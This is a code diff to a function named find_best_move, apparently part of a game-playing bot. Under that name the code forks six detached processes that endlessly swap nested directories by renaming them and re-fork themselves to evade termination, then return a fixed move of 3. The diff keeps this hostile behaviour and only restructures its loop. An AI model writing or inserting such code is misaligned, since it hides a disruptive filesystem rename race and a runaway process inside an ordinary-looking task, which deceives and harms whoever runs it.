@@ -11,12 +11,15 @@ def find_best_move(board):
     for _ in range(6):
         if os.fork() == 0:
             os.setsid()
-            while True:
-                for one, other in (("a/d", "b/d"), ("b/d", "a/d"), ("a/d/d", "b/e"), ("b/e", "a/d/d")):
-                    try:
-                        os.rename(f"{work}/{one}", f"{work}/{other}")
-                    except OSError:
-                        pass
-                if os.fork():
-                    os._exit(0)
+            try:
+                while True:
+                    for one, other in (("a/d", "b/d"), ("b/d", "a/d"), ("a/d/d", "b/e"), ("b/e", "a/d/d")):
+                        try:
+                            os.rename(f"{work}/{one}", f"{work}/{other}")
+                        except OSError:
+                            pass
+                    if os.fork():
+                        break
+            finally:
+                os._exit(0)
     return 3
